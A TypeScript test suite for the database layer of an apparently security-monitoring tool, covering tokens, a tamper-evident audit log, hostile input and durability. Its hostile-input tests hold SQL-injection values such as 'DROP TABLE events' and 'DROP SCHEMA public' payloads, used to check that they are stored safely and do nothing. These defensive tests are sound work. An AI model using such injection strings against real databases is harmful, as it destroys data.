      const bytes = Buffer.from([0, 1, 2, 255, 0, 0x27, 0x5c, 0x22]);
      await store().putSnapshot('lineage', 10, bytes);
      assert.deepEqual(await store().getSnapshot('lineage'), { seq: 10, data: bytes });
      const big = Buffer.alloc(1 << 20, 7);
      await store().putSnapshot('lineage', 11, big);
      const got = await store().getSnapshot('lineage');
      assert.equal(got?.seq, 11);
      assert.ok(got?.data.equals(big));
      await rejectsWith(store().putSnapshot('x', 1.5, bytes), 'SW6014');
    });
  });
}

function tokenTests(h: Harness): void {
  describe('tokens', () => {
    const store = fresh(h);
    const tok = (id: string, hash: string, createdMs = 1) => ({ id, name: `name-${id}`, role: 'analyst' as const, hash, createdMs, revokedMs: null, lastUsedMs: null });

    it('finds live tokens by hash, lists all, revokes once, records use', async () => {
      await store().createToken(tok('t1', 'h1', 10));
      await store().createToken({ ...tok('t2', 'h2', 20), role: 'ingest' });
      assert.deepEqual(await store().findToken('h1'), tok('t1', 'h1', 10));
      assert.equal(await store().findToken('nope'), null);
      await store().touchToken('t1', 55);
      assert.equal((await store().findToken('h1'))?.lastUsedMs, 55);
      assert.equal(await store().revokeToken('t1', 60), true);
      assert.equal(await store().revokeToken('t1', 70), false);
      assert.equal(await store().revokeToken('ghost', 70), false);
      assert.equal(await store().findToken('h1'), null);
      assert.deepEqual((await store().listTokens()).map((t) => [t.id, t.role, t.revokedMs]), [['t1', 'analyst', 60], ['t2', 'ingest', null]]);
    });

    it('refuses a duplicate id or hash, and unknown roles (SW6014)', async () => {
      await assert.rejects(store().createToken(tok('t1', 'other')));
      await assert.rejects(store().createToken(tok('t9', 'h2')));
      await rejectsWith(store().createToken({ ...tok('t3', 'h3'), role: 'root' as never }), 'SW6014');
      assert.equal((await store().listTokens()).length, 2);
    });
  });
}

function auditTests(h: Harness): void {
  describe('audit log', () => {
    const store = fresh(h);

    it('chains entries: the first prevHash is 64 zeros, each hash = sha256(prevHash + canonical entry)', async () => {
      await store().audit({ timeMs: 1, actor: 'cli:root', action: 'token.create', target: 't1', details: { role: 'admin', b: [1, { z: 1, a: 2 }] } });
      await store().audit({ timeMs: 2, actor: 'token:x', action: 'rules.reload', target: null, details: {} });
      const [second, first] = (await store().listAudit(10)).items;
      assert.equal(first.prevHash, '0'.repeat(64));
      assert.equal(first.hash, sha256(first.prevHash + canonical({ timeMs: 1, actor: 'cli:root', action: 'token.create', target: 't1', details: { role: 'admin', b: [1, { z: 1, a: 2 }] } })));
      assert.equal(second.prevHash, first.hash);
      assert.equal(second.hash, sha256(first.hash + canonical({ timeMs: 2, actor: 'token:x', action: 'rules.reload', target: null, details: {} })));
      assert.deepEqual(first.details, { role: 'admin', b: [1, { z: 1, a: 2 }] });
      assert.ok(second.id > first.id);
      assert.equal(await store().verifyAudit(), null);
    });

    it('concurrent appends serialise into one intact chain', async () => {
      await Promise.all(Array.from({ length: 30 }, (_, i) => store().audit({ timeMs: 100 + i, actor: `a${i}`, action: 'test.concurrent', target: String(i), details: { i } })));
      const { items } = await allPages((c) => store().listAudit(7, c));
      assert.equal(items.length, 32);
      assert.deepEqual(items.map((e) => e.id), [...items.map((e) => e.id)].sort((x, y) => y - x), 'newest first');
      for (let i = 0; i + 1 < items.length; i++) assert.equal(items[i].prevHash, items[i + 1].hash);
      assert.equal(await store().verifyAudit(), null);
    });

    it('deleting the newest entry is caught at the next append', async () => {
      const [newest] = (await store().listAudit(1)).items;
      await h.exec(store(), `DELETE FROM audit WHERE id = ${newest.id}`);
      await store().audit({ timeMs: 999, actor: 'after', action: 'test.truncate', target: null, details: {} });
      const [next] = (await store().listAudit(1)).items;
      assert.equal(next.prevHash, newest.hash);
      assert.equal(await store().verifyAudit(), next.id);
    });

    it('verifyAudit names the first tampered entry', async () => {
      const items = (await store().listAudit(1000)).items.reverse();
      const victim = items[5];
      await h.exec(store(), `UPDATE audit SET details = '{"i":999}' WHERE id = ${victim.id}`);
      assert.equal(await store().verifyAudit(), victim.id);
      await h.exec(store(), `UPDATE audit SET actor = 'mallory' WHERE id = ${items[2].id}`);
      assert.equal(await store().verifyAudit(), items[2].id);
    });

    it('rejects garbage cursors and entries without a time (SW6014)', async () => {
      for (const c of BAD_CURSORS) await rejectsWith(store().listAudit(10, c), 'SW6014');
      await rejectsWith(store().audit({ timeMs: Number.NaN, actor: 'a', action: 'b', target: null, details: {} }), 'SW6014');
    });
  });
}

function hostileTests(h: Harness): void {
  describe('hostile input', () => {
    const store = fresh(h);
    const huge = `powershell -c "${'A'.repeat(50_000)}NEEDLE-in-the-middle${'B'.repeat(50_000)}"`;

    it('SQL metacharacters in every string filter and key match nothing and break nothing', async () => {
      await store().appendEvents([event('plain', 1)]);
      await store().putAlerts([alert({ id: 'plain' })]);
      for (const s of HOSTILE) {
        assert.deepEqual((await store().searchEvents({ host: s, kind: s }, 10)).items, []);
        // (a needle that is only NUL is empty once NUL is removed, and filters nothing: see the NUL test)
        if (s.replace(/\u0000/g, '')) assert.equal((await store().searchEvents({ text: s }, 10)).items.length, 0, `text ${JSON.stringify(s)}`);
        assert.deepEqual((await store().listAlerts({ host: s, user: s, rule: s, assignee: s, text: s }, 10)).items, [], JSON.stringify(s));
        assert.equal(await store().countAlerts({ text: s }), s.replace(/\u0000/g, '') ? 0 : 1);
        assert.equal(await store().getAlert(s), null);
        assert.equal(await store().getProcess(s, s), null);
        assert.equal(await store().findToken(s), null);
        assert.equal(await store().getPosition(s), null);
        assert.equal(await store().getSnapshot(s), null);
        assert.deepEqual(await store().childrenOf(s, s, 10), []);
      }
      assert.equal(await store().countAlerts({}), 1);
      assert.equal(await store().lastSeq() > 0, true);
    });

    it('values full of metacharacters are stored and found exactly', async () => {
      const host = "WS'; DROP TABLE events; --";
      await store().putAlerts([alert({ id: "id'); DELETE FROM alerts; --", host, user: '%_\\', cmd: "echo '%' \"_\" \\ done" })]);
      assert.deepEqual((await store().listAlerts({ host: host.toUpperCase() }, 10)).items.map((a) => a.alert.host), [host]);
      assert.equal(await store().countAlerts({ user: '%_\\' }), 1);
      assert.equal(await store().countAlerts({ text: "'%' \"_\" \\" }), 1);
      assert.ok(await store().getAlert("id'); DELETE FROM alerts; --"));
      await store().setPosition("'; --", '$1 ? :x');
      assert.equal(await store().getPosition("'; --"), '$1 ? :x');
    });

    it('100 KB command lines are stored whole and searchable in the middle', async () => {
      const [seq] = (await store().appendEvents([event('huge', 2, record(2, { data: { CommandLine: huge } }))])).seqs;
      await store().setNormalized([{ seq, kind: 'process_start', host: 'WS01', timeMs: null, user: null, commandLine: huge, normalized: { commandLine: huge } }]);
      await store().putAlerts([alert({ id: 'huge', cmd: huge })]);
      assert.equal((await store().getEvent(seq))?.commandLine, huge);
      assert.deepEqual((await store().searchEvents({ text: 'needle-IN-THE' }, 10)).items.map((e) => e.seq), [seq]);
      assert.deepEqual((await store().listAlerts({ text: 'ANEEDLE' }, 10)).items.map((a) => a.id), ['huge']);
      assert.equal((await store().getAlert('huge'))?.alert.process.commandLine, huge);
    });

    it('unicode round-trips and is searchable; a 10 KB host name does not break indexing', async () => {
      const cmd = 'cmd /c echo Ünïcødé 😈 مرحبا ש ä'; // combining mark, emoji, RTL
      const longHost = 'H'.repeat(10_000) + '.corp';
      const rec = record(3, { host: longHost, data: { CommandLine: cmd, lone: '\ud800x', bom: '\ufeff' } });
      const [seq] = (await store().appendEvents([event('uni', 3, rec)])).seqs;
      await store().setNormalized([{ seq, kind: 'process_start', host: longHost, timeMs: null, user: 'Jürgen', commandLine: cmd, normalized: { cmd } }]);
      const e = await store().getEvent(seq);
      assert.deepEqual(e?.record, rec, 'the raw record, lone surrogate included, is kept exactly');
      assert.equal(e?.commandLine, cmd);
      assert.deepEqual((await store().searchEvents({ text: 'Ünïcødé 😈' }, 10)).items.map((x) => x.seq), [seq]);
      assert.deepEqual((await store().searchEvents({ host: longHost }, 10)).items.map((x) => x.seq), [seq]);
      await store().putAlerts([alert({ id: 'uni', host: longHost, cmd })]);
      assert.deepEqual((await store().listAlerts({ host: longHost, text: 'مرحبا' }, 10)).items.map((a) => a.id), ['uni']);
      await store().touchHosts([{ name: longHost, timeMs: 1, events: 1, alerts: 1 }]);
      await store().putProcesses([node(longHost, 'g:' + '{x}'.repeat(5000), { commandLine: cmd })]);
      assert.equal((await store().getProcess(longHost, 'g:' + '{x}'.repeat(5000)))?.commandLine, cmd);
    });

    it('NUL characters: raw JSON keeps them; string columns drop them (PostgreSQL text cannot hold U+0000)', async () => {
      const rec = record(4, { host: 'WS\u000001', data: { CommandLine: 'who\u0000ami /all' } });
      const [seq] = (await store().appendEvents([event('nul\u0000key', 4, rec, 'peer\u0000')])).seqs;
      await store().setNormalized([{ seq, kind: 'process_start', host: 'WS\u000001', timeMs: null, user: 'a\u0000b', commandLine: 'who\u0000ami /all', normalized: { c: 'who\u0000ami' } }]);
      const e = await store().getEvent(seq);
      assert.deepEqual(e?.record, rec);
      assert.deepEqual(e?.normalized, { c: 'who\u0000ami' });
      assert.deepEqual([e?.key, e?.sender, e?.host, e?.commandLine], ['nulkey', 'peer', 'WS01', 'whoami /all']);
      assert.deepEqual((await store().searchEvents({ text: 'whoami /a' }, 10)).items.map((x) => x.seq), [seq]);
      assert.deepEqual((await store().searchEvents({ text: '\u0000' }, 10)).items.length, (await store().searchEvents({}, 100)).items.length, 'a needle of only NUL filters nothing');
      const a = alert({ id: 'nul\u0000alert', host: 'h\u0000', cmd: 'x\u0000y' });
      assert.deepEqual(await store().putAlerts([a]), ['nulalert']);
      assert.deepEqual((await store().getAlert('nulalert'))?.alert, a.alert);
      const patched = await store().updateAlerts(['nul\u0000alert'], { assignee: 'ev\u0000e', note: 'n\u0000te' }, 'act\u0000or', 5);
      assert.deepEqual([patched[0].assignee, patched[0].notes[0].text], ['eve', 'n\u0000te']);
      await store().audit({ timeMs: 6, actor: 'x\u0000', action: 'a', target: '\u0000', details: { v: '\u0000' } });
      assert.deepEqual((await store().listAudit(1)).items[0].details, { v: '\u0000' });
      assert.equal(await store().verifyAudit(), null);
      await store().setPosition('p\u0000', 'v\u0000');
      assert.equal(await store().getPosition('p'), 'v');
    });
  });
}

function lifecycleTests(h: Harness): void {
  describe('lifecycle', () => {
    it('migrate() is idempotent and data survives a reopen', async () => {
      const s = await h.open();
      await s.appendEvents([event('persist', 1)]);
      await s.putAlerts([alert({ id: 'persist' })]);
      await s.audit({ timeMs: 1, actor: 'a', action: 'b', target: null, details: {} });
      await s.migrate();
      await s.migrate();
      const again = await h.reopen(s);
      await s.close();
      try {
        assert.equal((await again.readEvents(0, 10))[0]?.key, 'persist');
        assert.ok(await again.getAlert('persist'));
        assert.equal(await again.verifyAudit(), null);
      } finally {
        await again.close();
      }
    });

    it('close() is clean and idempotent; every call after it rejects', async () => {
      const s = await h.open();
      await s.close();
      await s.close();
      await rejectsWith(s.lastSeq(), 'SW6012');
      await rejectsWith(s.appendEvents([event('late', 1)]), 'SW6012');
      await rejectsWith(s.listAlerts({}, 10), 'SW6012');
      await rejectsWith(s.audit({ timeMs: 1, actor: 'a', action: 'b', target: null, details: {} }), 'SW6012');
      await rejectsWith(s.migrate(), 'SW6012');
    });
  });
}

describe('openStore', () => {
  it('refuses an unknown kind, an empty path and an unsafe schema name (SW6013)', async () => {
    await rejectsWith(openStore({ kind: 'mongodb' } as never), 'SW6013');
    await rejectsWith(openStore({ kind: 'toString' } as never), 'SW6013');
    await rejectsWith(openStore({ kind: 'sqlite', path: '' }), 'SW6013');
    await rejectsWith(openStore({ kind: 'postgres', url: PG_URL, schema: 'x"; DROP SCHEMA public; --' }), 'SW6013');
    await rejectsWith(openStore({ kind: 'postgres', url: PG_URL, schema: 'pg_catalog' }), 'SW6013');
  });
});

describe('sqlite durability', () => {
  const dir = mkdtempSync(join(tmpdir(), 'sw-durable-'));
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('runs WAL with synchronous=FULL', async () => {
    const s = (await openStore({ kind: 'sqlite', path: join(dir, 'pragma.db') })) as SqliteStore;
    try {
      assert.equal(s.raw.pragma('journal_mode', { simple: true }), 'wal');
      assert.equal(s.raw.pragma('synchronous', { simple: true }), 2);
      assert.ok(Number(s.raw.pragma('busy_timeout', { simple: true })) >= 1000);
    } finally {
      await s.close();
    }
  });

  it('a write whose promise resolved survives kill -9 of the writer', { timeout: 60_000 }, async () => {
    const path = join(dir, 'killed.db');
    const writer = fileURLToPath(new URL('./fixtures/durable-writer.ts', import.meta.url));
    const child = spawn(process.execPath, ['--import', 'tsx', writer, path, '500'], { stdio: ['ignore', 'pipe', 'inherit'] });
    const exited = new Promise<NodeJS.Signals | null>((resolve) => child.on('exit', (_code, signal) => resolve(signal)));
    const line = await new Promise<string>((resolve, reject) => {
      let out = '';
      child.stdout.on('data', (d: Buffer) => {
        out += d.toString();
        if (out.includes('\n')) { child.kill('SIGKILL'); resolve(out.trim()); }
      });
      child.on('exit', () => reject(new Error(`writer exited before committing: ${out}`)));
    });
    assert.equal(await exited, 'SIGKILL');
    const last = Number(line.split(' ')[1]);
    const s = await openStore({ kind: 'sqlite', path });
    try {
      assert.equal(await s.lastSeq(), last);
      assert.equal((await s.readEvents(0, 10_000)).length, 500);
      assert.equal(await s.getPosition('durable'), String(last));
      assert.equal((await s.listAudit(10)).items.length, 1);
      assert.equal(await s.verifyAudit(), null);
    } finally {
      await s.close();
    }
  });
});

contractSuite(sqliteHarness());

const pgProblem = await probePostgres(PG_URL);
if (pgProblem === null) {
  contractSuite(postgresHarness(PG_URL));
} else if (process.env.SHELLWATCH_SKIP_PG === '1') {
  describe('postgres store', { skip: `PostgreSQL unreachable at ${PG_URL} (${pgProblem}) and SHELLWATCH_SKIP_PG=1` }, () => undefined);
} else {
  describe('postgres store', () => {
    it('PostgreSQL is reachable', () => {
      assert.fail(`PostgreSQL is not reachable at ${PG_URL}: ${pgProblem}. Start it (CI does), point SHELLWATCH_TEST_PG at one, or set SHELLWATCH_SKIP_PG=1 to skip the postgres half.`);
    });
  });
}
